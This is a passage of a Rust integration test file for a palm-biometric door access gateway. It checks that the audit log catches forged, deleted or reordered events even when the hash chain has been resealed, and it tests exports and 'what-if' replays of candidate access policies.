//! `audit verify | export | what-if` on a real log made by the real server: tamper detection
//! (a changed byte, a rewritten decision with a recomputed chain), re-derivation, exports, and
//! what a new policy would change. The CLI's exit status is checked on the binary itself.

use palmgate::core::ReaderId;
use palmgate::mqtt::protocol::{CaptureMsg, Inbound};
use palmgate::replay::audit;
use palmgate::store::SqliteStore;
use palmgate::store::chain::event_hash;
use rusqlite::{Connection, params};
use serde_json::{Value, json};
use std::path::{Path, PathBuf};

const SITE: &str = r#"timezone = "Asia/Almaty"

[[relay_devices]]
id = "board-1"
modbus = "tcp://127.0.0.1:9"

[[doors]]
id = "main"
readers = ["lobby-1"]
relay = { device = "board-1", coil = 0 }

[[doors]]
id = "lab"
readers = ["lab-1"]
relay = { device = "board-1", coil = 1 }

[schedules]
always = ["* * * * * *"]

[[levels]]
name = "standard"
doors = ["main", "lab"]
schedule = "always"
"#;

struct Log {
    dir: tempfile::TempDir,
    config: PathBuf,
}

impl Log {
    fn db(&self) -> PathBuf {
        self.dir.path().join("events.db")
    }
}

fn capture(palm: &str, seed: u64, id: &str) -> Inbound {
    Inbound::Capture(CaptureMsg {
        capture_id: id.into(),
        session: None,
        template: palmgate::synthetic::scan(palm, 128, seed).into(),
        quality: 0.9,
        liveness: true,
    })
}

/// A running gateway (in-process) with the site policy and alice enrolled with partner Acme.
struct Enrolled {
    dir: tempfile::TempDir,
    config: PathBuf,
    server: palmgate::app::Server,
    app: std::sync::Arc<palmgate::app::App>,
    partner: palmgate::core::PartnerId,
}

async fn enrolled() -> Enrolled {
    enrolled_on(std::sync::Arc::new(palmgate::app::clock::SystemClock)).await
}

/// [`enrolled`] on `clock`.
async fn enrolled_on(clock: std::sync::Arc<dyn palmgate::app::clock::Clock>) -> Enrolled {
    enrolled_with(SITE, clock).await
}

/// [`enrolled`] with the site policy `site`, on `clock`.
async fn enrolled_with(
    site: &str,
    clock: std::sync::Arc<dyn palmgate::app::clock::Clock>,
) -> Enrolled {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path().display();
    std::fs::write(dir.path().join("site.toml"), site).unwrap();
    let config = dir.path().join("p.toml");
    std::fs::write(
        &config,
        format!(
            r#"site = "{d}/site.toml"
[http]
listen = "127.0.0.1:0"
[store]
path = "{d}/events.db"
[secrets]
key_file = "{d}/master.key"
key_store = "{d}/keys.db"
[mqtt.embedded]
listen = "127.0.0.1:0"
"#
        ),
    )
    .unwrap();
    let cfg = palmgate::config::Config::load(Some(&config), &[]).unwrap();
    let server =
        palmgate::app::start_with(cfg, clock, std::sync::Arc::new(palmgate::app::clock::OsRng))
            .await
            .unwrap();
    let app = server.app.clone();
    // Enroll alice through the core pipeline (a session, then a capture at a desk reader).
    let partner = palmgate::core::PartnerId::from_random([7; 16]);
    app.execute(palmgate::core::Command::CreatePartner {
        partner_id: partner,
        name: "Acme".into(),
        api_key_hash: palmgate::app::secrets::hash_secret("k"),
        webhook: None,
    })
    .await
    .unwrap();
    enroll(&app, partner, 8, "alice", "alice").await;
    Enrolled {
        dir,
        config,
        server,
        app,
        partner,
    }
}

/// Enrolls `palm` as `external_id` of `partner` through the core pipeline (a session, then a
/// capture at a desk reader); `n` numbers the session.
async fn enroll(
    app: &palmgate::app::App,
    partner: palmgate::core::PartnerId,
    n: u8,
    external_id: &str,
    palm: &str,
) {
    let sid = palmgate::core::SessionId::from_random([n; 16]);
    let token = app.keys.session_token(sid);
    app.execute(palmgate::core::Command::CreateSession {
        partner_id: partner,
        session_id: sid,
        token_hash: palmgate::app::secrets::hash_secret(&token),
        kind: palmgate::core::SessionKind::Enroll,
        language: palmgate::core::Language::En,
        enroll: Some(palmgate::core::EnrollRequest {
            external_id: palmgate::core::ExternalId(external_id.into()),
            username: None,
            metadata: Some(json!({"access_level": "standard"})),
        }),
        idempotency: None,
        ttl: chrono::Duration::minutes(15),
    })
    .await
    .unwrap();
    app.reader_message(
        ReaderId("desk-1".into()),
        Inbound::Capture(CaptureMsg {
            capture_id: format!("enroll-{n}"),
            session: Some(token),
            template: palmgate::synthetic::scan(palm, 128, 1).into(),
            quality: 0.9,
            liveness: true,
        }),
    )
    .await
    .unwrap();
}

/// A log with a policy, an enrolled user and six door decisions (granted and denied).
async fn make_log() -> Log {
    let Enrolled {
        dir,
        config,
        server,
        app,
        ..
    } = enrolled().await;
    for (i, (reader, palm)) in [
        ("lobby-1", "alice"),
        ("lab-1", "alice"),
        ("lobby-1", "mallory"),
        ("lobby-1", "alice"),
        ("lab-1", "mallory"),
        ("lab-1", "alice"),
    ]
    .iter()
    .enumerate()
    {
        app.reader_message(
            ReaderId(reader.to_string()),
            capture(palm, 100 + i as u64, &format!("scan-{i}")),
        )
        .await
        .unwrap();
    }
    // A scan too poor to judge: rejected, the reader asked to try again.
    let mut poor = capture("alice", 200, "scan-poor");
    if let Inbound::Capture(c) = &mut poor {
        c.quality = 0.2;
    }
    app.reader_message(ReaderId("lobby-1".into()), poor)
        .await
        .unwrap();
    drop(server);
    // The writer stops now, saving the log's head, not whenever the last task holding the app
    // lets go of it (after a test has rewritten rows, it would save the original head over a
    // forger's).
    app.close();
    drop(app);
    Log { dir, config }
}

/// The log opened for verification, read-only as `palmgate audit` opens it (the gateway that
/// wrote it may still hold the writer's lock while its tasks wind down).
fn store(path: &Path) -> SqliteStore {
    read_only(path)
}

/// The log opened as `palmgate audit` opens it (the writer's open reads every revision to
/// rebuild the stream heads, and stops at one that is not a number).
fn read_only(path: &Path) -> SqliteStore {
    SqliteStore::open_read_only(path)
        .unwrap()
        .expect("an event log")
}

/// `(position, data)` of every DoorDecided row.
fn decided_rows(db: &Path) -> Vec<(i64, String)> {
    let c = Connection::open(db).unwrap();
    let mut st = c
        .prepare("SELECT position, data FROM events WHERE type = 'DoorDecided' ORDER BY position")
        .unwrap();
    st.query_map([], |r| Ok((r.get(0)?, r.get(1)?)))
        .unwrap()
        .map(Result::unwrap)
        .collect()
}

/// `(position, stream, revision, type, version, recorded_at, data, prev_hash)` of a stored row.
type StoredRow = (i64, String, i64, String, i64, String, String, Vec<u8>);

/// Rewrites one event's data and re-seals the whole chain from there, as a forger with write
/// access to the file would.
fn forge(db: &Path, position: i64, data: &str) {
    let c = Connection::open(db).unwrap();
    c.execute(
        "UPDATE events SET data = ?1 WHERE position = ?2",
        params![data, position],
    )
    .unwrap();
    reseal(&c, position);
}

/// Recomputes the hash chain from `position` on, over the rows as they now stand.
fn reseal(c: &Connection, position: i64) {
    let rows: Vec<StoredRow> = {
        let mut st = c
            .prepare(
                "SELECT position, stream, revision, type, version, recorded_at, data, prev_hash \
                 FROM events WHERE position >= ?1 ORDER BY position",
            )
            .unwrap();
        st.query_map([position], |r| {
            Ok((
                r.get(0)?,
                r.get(1)?,
                r.get(2)?,
                r.get(3)?,
                r.get(4)?,
                r.get(5)?,
                r.get(6)?,
                r.get(7)?,
            ))
        })
        .unwrap()
        .map(Result::unwrap)
        .collect()
    };
    let mut prev: [u8; 32] = rows[0].7.clone().try_into().unwrap();
    for (pos, stream, rev, kind, ver, at, data, _) in rows {
        let h = event_hash(
            &prev, pos as u64, &stream, rev as u64, &kind, ver as u32, &at, &data,
        );
        c.execute(
            "UPDATE events SET prev_hash = ?1, hash = ?2 WHERE position = ?3",
            params![&prev[..], &h[..], pos],
        )
        .unwrap();
        // A thorough forger rewrites the head the log saved of itself too (checked apart in
        // `a_tail_cut_off_the_log_is_caught_by_the_head_it_saved`).
        c.execute(
            "UPDATE store_heads SET hash = ?1 WHERE position = ?2",
            params![&h[..], pos],
        )
        .unwrap();
        prev = h;
    }
}

/// Rewrites the event at `pos` with `data` and re-seals the chain (see [`forge`]); `audit
/// verify` must then report exactly one finding, at `pos`, saying each of `what`.
fn forged_is_caught(db: &Path, pos: i64, data: &Value, what: &[&str]) {
    forge(db, pos, &serde_json::to_string(data).unwrap());
    let r = audit::verify(&store(db)).unwrap();
    assert_eq!(r.findings.len(), 1, "{:?}", r.findings);
    assert_eq!(r.findings[0].position, pos as u64);
    for w in what {
        assert!(r.findings[0].problem.contains(w), "{w}: {:?}", r.findings);
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_untouched_log_verifies_and_every_decision_is_reproduced() {
    let log = make_log().await;
    let r = audit::verify(&store(&log.db())).unwrap();
    assert!(r.ok(), "{:?}", r.findings);
    assert_eq!(r.decisions, 6);
    let rows: Vec<Value> = audit::decisions(&store(&log.db()), None, None)
        .unwrap()
        .iter()
        .filter_map(audit::decision_row)
        .collect();
    let granted: Vec<bool> = rows
        .iter()
        .map(|r| r["granted"].as_bool().unwrap())
        .collect();
    assert_eq!(granted, vec![true, true, false, true, false, true]);
    assert_eq!(rows[2]["reason"], "no_match");
    assert_eq!(rows[0]["external_id"], "alice");
    assert_eq!(rows[0]["level"], "standard");
    // Why the palm was (not) identified: its similarity against the threshold in force.
    let threshold = rows[0]["threshold"].as_f64().unwrap();
    assert_eq!(threshold, 0.8, "the default matching.threshold");
    assert!(rows[0]["similarity"].as_f64().unwrap() >= threshold);
    assert!(rows[2]["similarity"].as_f64().unwrap() < threshold);
    assert_eq!(rows[2]["liveness"], true);
    let csv = audit::csv_line(&rows[0]);
    assert!(
        csv.ends_with(&format!(",{threshold},true,false,false")),
        "{csv}"
    );
    assert_eq!(
        audit::CSV_HEADER.split(',').count(),
        csv.split(',').count(),
        "{csv}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_flipped_byte_is_reported_at_its_position() {
    let log = make_log().await;
    let (pos, data) = decided_rows(&log.db())[1].clone();
    let c = Connection::open(log.db()).unwrap();
    c.execute(
        "UPDATE events SET data = ?1 WHERE position = ?2",
        params![data.replacen("lab", "lac", 1), pos],
    )
    .unwrap();
    let r = audit::verify(&store(&log.db())).unwrap();
    assert!(!r.ok());
    assert_eq!(r.findings[0].position, pos as u64, "{:?}", r.findings);
    assert!(r.findings[0].problem.contains("hash"), "{:?}", r.findings);
}

/// Two events changed far apart: both are reported, each at its position. Verification used to
/// stop checking the chain after the first break, so a second change (to an event no decision
/// re-derives, such as a user's metadata) went unnoticed behind it.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn every_tampered_event_is_reported_not_only_the_first() {
    let log = make_log().await;
    let decided = decided_rows(&log.db());
    let (first, data) = decided[0].clone();
    let c = Connection::open(log.db()).unwrap();
    c.execute(
        "UPDATE events SET data = ?1 WHERE position = ?2",
        params![data.replacen("lobby", "lobbx", 1), first],
    )
    .unwrap();
    let (enrolled, data): (i64, String) = c
        .query_row(
            "SELECT position, data FROM events WHERE type = 'UserEnrolled'",
            [],
            |r| Ok((r.get(0)?, r.get(1)?)),
        )
        .unwrap();
    assert!(enrolled < first);
    c.execute(
        "UPDATE events SET data = ?1 WHERE position = ?2",
        params![data.replacen("standard", "vip-gold", 1), enrolled],
    )
    .unwrap();
    let r = audit::verify(&store(&log.db())).unwrap();
    let broken: Vec<u64> = r
        .findings
        .iter()
        .filter(|f| f.problem.starts_with("hash chain"))
        .map(|f| f.position)
        .collect();
    assert_eq!(
        broken,
        vec![enrolled as u64, first as u64],
        "{:?}",
        r.findings
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_rewritten_decision_with_a_resealed_chain_is_still_caught() {
    let log = make_log().await;
    // The no_match denial turned into a grant, and the chain recomputed after it.
    let (pos, data) = decided_rows(&log.db())[2].clone();
    let mut v: Value = serde_json::from_str(&data).unwrap();
    assert_eq!(v["verdict"]["reason"], "no_match");
    v["verdict"] = json!({"verdict": "granted", "level": "standard", "passback_violation": false});
    forged_is_caught(&log.db(), pos, &v, &["no_match"]);
}

/// A forger who rewrites a decision's inputs together with its verdict, so that the policy run
/// again on the recorded inputs agrees, and re-seals the chain, is caught by the inputs: the
/// subject is checked against the user's record in the log, the zone state against the zone
/// movements before it.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn rewritten_inputs_that_agree_with_a_rewritten_verdict_are_still_caught() {
    // Alice's first grant hidden as a denial: another access level in the recorded metadata.
    let log = make_log().await;
    let (pos, data) = decided_rows(&log.db())[0].clone();
    let mut v: Value = serde_json::from_str(&data).unwrap();
    assert_eq!(v["subject"]["external_id"], "alice", "{v}");
    v["subject"]["metadata"] = json!({"access_level": "visitor"});
    v["verdict"] =
        json!({"verdict": "denied", "reason": "unknown_access_level", "level": "visitor"});
    forged_is_caught(&log.db(), pos, &v, &["differs from the user's record"]);

    // A zone movement the log never had.
    let log = make_log().await;
    let (pos, data) = decided_rows(&log.db())[1].clone();
    let mut v: Value = serde_json::from_str(&data).unwrap();
    v["last_in_zone"] = json!("entry");
    forged_is_caught(&log.db(), pos, &v, &["last zone movement"]);

    // A grant said to be at a door that could not open (so no zone movement would be
    // recorded), while the log has its relay board up.
    let log = make_log().await;
    let (pos, data) = decided_rows(&log.db())[0].clone();
    let mut v: Value = serde_json::from_str(&data).unwrap();
    assert_eq!(v["verdict"]["verdict"], "granted", "{v}");
    assert!(v.get("movement").is_none(), "{v}");
    v["unopenable"] = json!(true);
    forged_is_caught(&log.db(), pos, &v, &["unable to open", "board up"]);
}

/// `(position, data)` of the first row of type `kind`.
fn first_row(db: &Path, kind: &str) -> (i64, String) {
    let c = Connection::open(db).unwrap();
    c.query_row(
        "SELECT position, data FROM events WHERE type = ?1 ORDER BY position LIMIT 1",
        [kind],
        |r| Ok((r.get(0)?, r.get(1)?)),
    )
    .unwrap()
}

/// A forger who turns a stranger's denial into a grant for an enrolled user, with the user's
/// exact record as the subject and the verdict the policy gives, is caught by the palm's
/// recorded judgement: the similarity does not reach the threshold in force. So is a session
/// completed on a capture that was too poor to be judged at all.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn rewritten_palm_judgements_are_caught() {
    let log = make_log().await;
    let rows = decided_rows(&log.db());
    let alice: Value = serde_json::from_str(&rows[0].1).unwrap();
    let (pos, data) = rows[2].clone();
    let mut v: Value = serde_json::from_str(&data).unwrap();
    assert_eq!(v["verdict"]["reason"], "no_match", "{v}");
    let threshold = v["judged"]["threshold"].as_f64().unwrap();
    assert!(v["similarity"].as_f64().unwrap() < threshold, "{v}");
    // Live (the field is written only for a failed check), judged by the default rules.
    assert_eq!(v["judged"].get("liveness"), None, "{v}");
    v["subject"] = alice["subject"].clone();
    v["verdict"] = alice["verdict"].clone();
    forged_is_caught(&log.db(), pos, &v, &["recorded a match", "gives no match"]);

    // The enrolment completed on a capture below min_quality: a retry was due.
    let log = make_log().await;
    let (pos, data) = first_row(&log.db(), "SessionCompleted");
    let mut v: Value = serde_json::from_str(&data).unwrap();
    assert!(
        v["capture"]["judged"]["min_quality"].as_f64().unwrap() > 0.1,
        "{v}"
    );
    v["capture"]["quality"] = json!(0.1);
    forged_is_caught(&log.db(), pos, &v, &["asks for a retry"]);

    // A good scan hidden as a poor one at a door.
    let log = make_log().await;
    let (pos, data) = first_row(&log.db(), "CaptureRejected");
    let mut v: Value = serde_json::from_str(&data).unwrap();
    assert_eq!(v["reason"], "low_quality", "{v}");
    assert_eq!(v["quality"], 0.2, "{v}");
    v["quality"] = json!(0.95);
    forged_is_caught(&log.db(), pos, &v, &["rejected as low_quality"]);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn deleted_and_reordered_events_are_caught() {
    let log = make_log().await;
    let rows = decided_rows(&log.db());
    let c = Connection::open(log.db()).unwrap();
    c.execute("DELETE FROM events WHERE position = ?1", [rows[3].0])
        .unwrap();
    let r = audit::verify(&store(&log.db())).unwrap();
    assert_eq!(
        r.findings[0].position,
        rows[3].0 as u64 + 1,
        "{:?}",
        r.findings
    );

    let log = make_log().await;
    let rows = decided_rows(&log.db());
    let c = Connection::open(log.db()).unwrap();
    c.execute(
        "UPDATE events SET data = ?1 WHERE position = ?2",
        params![rows[1].1, rows[0].0],
    )
    .unwrap();
    c.execute(
        "UPDATE events SET data = ?1 WHERE position = ?2",
        params![rows[0].1, rows[1].0],
    )
    .unwrap();
    let r = audit::verify(&store(&log.db())).unwrap();
    assert!(!r.ok());
    assert_eq!(r.findings[0].position, rows[0].0 as u64);
}

/// The parallel reader splits the log into pages by position: whatever the page size, the
/// findings are the same as one pass — including gaps left by deleted events.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn verification_is_the_same_whatever_the_page_size() {
    let log = make_log().await;
    let whole = audit::verify(&store(&log.db())).unwrap();
    assert!(whole.ok());
    let rows = decided_rows(&log.db());
    let c = Connection::open(log.db()).unwrap();
    c.execute("DELETE FROM events WHERE position = ?1", [rows[2].0])
        .unwrap();
    c.execute("DELETE FROM events WHERE position = ?1", [rows[2].0 + 1])
        .unwrap();
    let one_pass = audit::verify_paged(&store(&log.db()), 1_000_000, 0).unwrap();
    assert!(!one_pass.ok());
    for (page, threads) in [(1, 2), (2, 2), (3, 1), (5, 3), (7, 2), (2, 0)] {
        let r = audit::verify_paged(&store(&log.db()), page, threads).unwrap();
        assert_eq!(r.events, one_pass.events, "page {page}");
        assert_eq!(r.decisions, one_pass.decisions, "page {page}");
        assert_eq!(r.findings, one_pass.findings, "page {page}");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn what_if_lists_the_decisions_a_new_policy_changes() {
    let log = make_log().await;
    let stricter = palmgate::core::policy::Policy::parse(
        &SITE.replace(r#"doors = ["main", "lab"]"#, r#"doors = ["main"]"#),
    )
    .unwrap();
    let audit::WhatIf {
        replayed: n,
        changed,
        ..
    } = audit::what_if(&store(&log.db()), &stricter, None, None).unwrap();
    assert_eq!(n, 6);
    // alice's two lab grants become door_not_in_level; mallory stays no_match.
    assert_eq!(changed.len(), 2, "{changed:?}");
    for c in &changed {
        assert_eq!(c.row["door"], "lab");
        assert_eq!(
            c.now.reason().map(|r| r.as_str()),
            Some("door_not_in_level")
        );
    }
    let same = palmgate::core::policy::Policy::parse(SITE).unwrap();
    assert!(
        audit::what_if(&store(&log.db()), &same, None, None)
            .unwrap()
            .changed
            .is_empty()
    );
    // A candidate that admits another partner only: alice's palm would not have been searched
    // for, so her grants become no_match (as the gateway would answer), not
    // partner_not_allowed.
    let others =
        palmgate::core::policy::Policy::parse(&format!("partners = [\"Other\"]\n{SITE}")).unwrap();
    let changed = audit::what_if(&store(&log.db()), &others, None, None)
        .unwrap()
        .changed;
    assert_eq!(changed.len(), 4, "{changed:?}");
    for c in &changed {
        assert_eq!(
            c.now.reason().map(|r| r.as_str()),
            Some("no_match"),
            "{c:?}"
        );
    }
}

/// A site with a lobby door (an entry and an exit reader) and a side door no level opens.
const LOBBY: &str = r#"timezone = "UTC"

[[relay_devices]]
id = "board-1"
modbus = "tcp://127.0.0.1:9"

[[doors]]
id = "lobby"
readers = ["lobby-in", "lobby-out"]
relay = { device = "board-1", coil = 0 }

[[doors]]
id = "side"
readers = ["side-1"]
relay = { device = "board-1", coil = 1 }

[schedules]
always = ["* * * * * *"]

[[levels]]
name = "standard"
doors = ["lobby"]
schedule = "always"
"#;

/// [`LOBBY`] with a hard anti-passback zone entered at `entry` and left at `exit`.
fn lobby_zoned(entry: &str, exit: &str) -> String {
    format!(
        "{LOBBY}\n[[zones]]\nname = \"building\"\nentry_readers = [\"{entry}\"]\n\
         exit_readers = [\"{exit}\"]\nanti_passback = \"hard\"\n"
    )
}

/// A gateway under [`lobby_zoned`]`("lobby-in", "lobby-out")` (on the system clock), and that
/// site.
async fn zoned_lobby() -> (String, Enrolled) {
    let site = lobby_zoned("lobby-in", "lobby-out");
    let enrolled = enrolled_with(
        &site,
        std::sync::Arc::new(palmgate::app::clock::SystemClock),
    )
    .await;
    (site, enrolled)
}

/// The log positions of `log`'s door decisions, in order.
fn decided_positions(log: &Log) -> Vec<u64> {
    decided_rows(&log.db())
        .iter()
        .map(|(p, _)| *p as u64)
        .collect()
}

/// The verdict (`granted` / `denied`) recorded at each of `positions`.
fn verdicts_at(log: &Log, positions: &[u64]) -> Vec<Value> {
    positions
        .iter()
        .map(|&p| row_data(&log.db(), p as i64)["verdict"]["verdict"].clone())
        .collect()
}

/// A log made under `site` by alice scanning at `readers` in turn (a few ms apart, so each
/// decision has its own instant), and the log positions of its door decisions, in order.
async fn lobby_log(site: &str, readers: &[&str]) -> (Log, Vec<u64>) {
    let Enrolled {
        dir,
        config,
        server,
        app,
        ..
    } = enrolled_with(site, std::sync::Arc::new(palmgate::app::clock::SystemClock)).await;
    for (i, reader) in readers.iter().enumerate() {
        tokio::time::sleep(std::time::Duration::from_millis(5)).await;
        app.reader_message(
            ReaderId(reader.to_string()),
            capture("alice", 300 + i as u64, &format!("walk-{i}")),
        )
        .await
        .unwrap();
    }
    drop(server);
    app.close();
    drop(app);
    let log = Log { dir, config };
    let positions = decided_positions(&log);
    assert_eq!(positions.len(), readers.len(), "every scan decided");
    (log, positions)
}

/// What-if under `candidate` from `from`: the number of decisions replayed and the changes as
/// (index of the decision in `positions`, what the candidate would do).
fn changes(
    log: &Log,
    positions: &[u64],
    candidate: &str,
    from: Option<chrono::DateTime<chrono::Utc>>,
) -> (usize, Vec<(usize, String)>) {
    let policy = palmgate::core::policy::Policy::parse(candidate).unwrap();
    let audit::WhatIf {
        replayed: n,
        changed,
        ..
    } = audit::what_if(&store(&log.db()), &policy, from, None).unwrap();
    let at = changed
        .iter()
        .map(|c| {
            let p = c.row["position"].as_u64().unwrap();
            let i = positions.iter().position(|&q| q == p).unwrap();
            (i, c.now_text())
        })
        .collect();
    (n, at)
}

/// The instant of the door decision at `position`.
fn decided_at(log: &Log, position: u64) -> chrono::DateTime<chrono::Utc> {
    row_data(&log.db(), position as i64)["at"]
        .as_str()
        .unwrap()
        .parse()
        .unwrap()
}

/// A zone the log never had: the candidate's anti-passback judges each movement after the
/// movements the candidate itself would have let through, not the (absent) recorded state.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn what_if_a_zone_is_added_denies_the_repeated_movements() {
    let walk = [
        "lobby-in",
        "lobby-in",
        "lobby-out",
        "lobby-out",
        "lobby-in",
        "lobby-out",
    ];
    let (log, positions) = lobby_log(LOBBY, &walk).await;
    let zoned = lobby_zoned("lobby-in", "lobby-out");
    let denied = "denied (anti_passback)".to_string();
    assert_eq!(
        changes(&log, &positions, &zoned, None),
        (6, vec![(1, denied.clone()), (3, denied.clone())])
    );
    // From the second entry on: the first entry, before the window, still counts.
    let from = decided_at(&log, positions[1]);
    assert_eq!(
        changes(&log, &positions, &zoned, Some(from)),
        (5, vec![(1, denied.clone()), (3, denied)])
    );
}

/// Entry and exit readers swapped: every scan is judged by the role its reader has in the
/// candidate, after the candidate's own movements; alternating in and out stays alternating.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn what_if_the_zone_readers_are_swapped_judges_the_movements_by_their_new_roles() {
    let walk = [
        "lobby-in",
        "lobby-out",
        "lobby-in",
        "lobby-out",
        "lobby-out",
    ];
    let site = lobby_zoned("lobby-in", "lobby-out");
    let (log, positions) = lobby_log(&site, &walk).await;
    // Recorded: granted, granted, granted, granted, denied anti_passback. Swapped: exit, entry,
    // exit, entry, entry: the same.
    assert_eq!(
        changes(
            &log,
            &positions,
            &lobby_zoned("lobby-out", "lobby-in"),
            None
        ),
        (5, vec![])
    );
}

/// A reader moved to a door the user's level does not open: every scan at it is denied
/// `door_not_in_level`; a reader the candidate binds to no door would have its scans rejected.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn what_if_a_reader_moves_to_another_door_every_scan_at_it_is_judged_there() {
    let walk = ["lobby-in", "lobby-in", "lobby-out", "lobby-out", "lobby-in"];
    let site = lobby_zoned("lobby-in", "lobby-out");
    let (log, positions) = lobby_log(&site, &walk).await;
    let moved = site
        .replace(
            r#"readers = ["lobby-in", "lobby-out"]"#,
            r#"readers = ["lobby-out"]"#,
        )
        .replace(
            r#"readers = ["side-1"]"#,
            r#"readers = ["side-1", "lobby-in"]"#,
        );
    let not_in_level = "denied (door_not_in_level)".to_string();
    // Recorded: granted, denied anti_passback, granted, denied anti_passback, granted. The
    // exits are unchanged: no entry was let through, then the first exit was.
    assert_eq!(
        changes(&log, &positions, &moved, None),
        (
            5,
            vec![
                (0, not_in_level.clone()),
                (1, not_in_level.clone()),
                (4, not_in_level)
            ]
        )
    );
    // lobby-in at no door (and out of the zone): its scans would be rejected; the exits are
    // judged as before (the first exit follows no entry, the second repeats it).
    let nowhere = site
        .replace(
            r#"readers = ["lobby-in", "lobby-out"]"#,
            r#"readers = ["lobby-out"]"#,
        )
        .replace(r#"entry_readers = ["lobby-in"]"#, "entry_readers = []");
    let rejected = "rejected (no_door)".to_string();
    assert_eq!(
        changes(&log, &positions, &nowhere, None),
        (
            5,
            vec![(0, rejected.clone()), (1, rejected.clone()), (4, rejected)]
        )
    );
}

/// The policy in force as candidate changes nothing on a log with zones, also from the middle
/// of the log (the zone state at the window's start comes from the decisions before it).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn what_if_the_policy_in_force_changes_nothing_on_a_log_with_zones() {
    let walk = ["lobby-in", "lobby-in", "lobby-out", "lobby-out", "lobby-in"];
    let site = lobby_zoned("lobby-in", "lobby-out");
    let (log, positions) = lobby_log(&site, &walk).await;
    assert_eq!(changes(&log, &positions, &site, None), (5, vec![]));
    for (i, &p) in positions.iter().enumerate() {
        let from = decided_at(&log, p);
        assert_eq!(
            changes(&log, &positions, &site, Some(from)),
            (5 - i, vec![]),
            "from decision {i}"
        );
    }
}

/// An erasure ends the person's zone presence in the candidate's zones too (as the state fold
/// does): the same `external_id` enrolled again enters without an exit first, and the policy in
/// force changes nothing.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn what_if_an_erasure_ends_the_persons_zone_presence() {
    let (site, enrolled) = zoned_lobby().await;
    let Enrolled {
        dir,
        config,
        server,
        app,
        partner,
    } = enrolled;
    let scan = |palm: &'static str, id: &'static str, seed| {
        app.reader_message(ReaderId("lobby-in".into()), capture(palm, seed, id))
    };
    scan("alice", "walk-0", 300).await.unwrap();
    scan("alice", "walk-1", 301).await.unwrap();
    app.execute(palmgate::core::Command::EraseUser {
        partner_id: partner,
        external_id: palmgate::core::ExternalId("alice".into()),
    })
    .await
    .unwrap();
    enroll(&app, partner, 9, "alice", "bob").await;
    scan("bob", "walk-2", 302).await.unwrap();
    drop(server);
    app.close();
    drop(app);
    let log = Log { dir, config };
    let positions = decided_positions(&log);
    let verdicts = verdicts_at(&log, &positions);
    assert_eq!(
        verdicts,
        [json!("granted"), json!("denied"), json!("granted")]
    );
    assert_eq!(changes(&log, &positions, &site, None), (3, vec![]));
}

/// An operator's forgive ends presence in the candidate's zone of that name too (as the state
/// fold does): entry, denied entry, forgive, granted entry; the policy in force changes
/// nothing, and `audit verify` passes.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn what_if_an_operators_forgive_ends_presence_in_the_zone() {
    let (site, enrolled) = zoned_lobby().await;
    let Enrolled {
        dir,
        config,
        server,
        app,
        partner,
    } = enrolled;
    let scan = |palm: &'static str, id: &'static str, seed| {
        app.reader_message(ReaderId("lobby-in".into()), capture(palm, seed, id))
    };
    scan("alice", "walk-0", 300).await.unwrap();
    scan("alice", "walk-1", 301).await.unwrap();
    let zone = palmgate::core::policy::Policy::parse(&site).unwrap().zones[0]
        .name
        .clone();
    let outcome = app
        .execute(palmgate::core::Command::ForgiveZone {
            zone,
            person: Some((partner, palmgate::core::ExternalId("alice".into()))),
            reason: None,
        })
        .await
        .unwrap();
    assert!(
        matches!(outcome, palmgate::core::Outcome::Forgiven(1)),
        "{outcome:?}"
    );
    scan("alice", "walk-2", 302).await.unwrap();
    drop(server);
    app.close();
    drop(app);
    let log = Log { dir, config };
    let positions = decided_positions(&log);
    let verdicts = verdicts_at(&log, &positions);
    assert_eq!(
        verdicts,
        [json!("granted"), json!("denied"), json!("granted")]
    );
    assert_eq!(changes(&log, &positions, &site, None), (3, vec![]));
}

/// A grant at a door whose board the log has down makes no zone movement in what-if either
/// (the gateway records it `unopenable`): the policy in force changes nothing, whether or not
/// a refused pulse followed it (review, session 18: without one, the next entry read as a
/// change to `anti_passback`).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn what_if_a_grant_at_a_door_whose_board_is_down_moves_no_one() {
    let (site, enrolled) = zoned_lobby().await;
    let Enrolled {
        dir,
        config,
        server,
        app,
        ..
    } = enrolled;
    let relay = |report| app.execute(palmgate::core::Command::relay(report));
    relay(palmgate::core::RelayReport::Down {
        device: "board-1".into(),
        error: "connect timeout".into(),
    })
    .await
    .unwrap();
    app.reader_message(ReaderId("lobby-in".into()), capture("alice", 300, "walk-0"))
        .await
        .unwrap();
    relay(palmgate::core::RelayReport::Up {
        device: "board-1".into(),
    })
    .await
    .unwrap();
    app.reader_message(ReaderId("lobby-in".into()), capture("alice", 301, "walk-1"))
        .await
        .unwrap();
    drop(server);
    app.close();
    drop(app);
    let log = Log { dir, config };
    let positions = decided_positions(&log);
    let first = row_data(&log.db(), positions[0] as i64);
    assert_eq!(first["unopenable"], true, "{first}");
    let second = row_data(&log.db(), positions[1] as i64);
    assert_eq!(second["verdict"]["verdict"], "granted", "{second}");
    assert_eq!(changes(&log, &positions, &site, None), (2, vec![]));
    // The export tells the grant that opened nothing from the one that opened the door: both
    // were `granted=true` with nothing else to tell them apart.
    let rows: Vec<Value> = audit::decisions(&store(&log.db()), None, None)
        .unwrap()
        .iter()
        .filter_map(audit::decision_row)
        .collect();
    let flags: Vec<(bool, bool)> = rows
        .iter()
        .map(|r| {
            (
                r["granted"].as_bool().unwrap(),
                r["unopenable"].as_bool().unwrap(),
            )
        })
        .collect();
    assert_eq!(flags, [(true, true), (true, false)]);
    let csv = audit::export(&store(&log.db()), None, None, true).unwrap();
    let mut lines = csv.lines();
    assert!(
        lines
            .next()
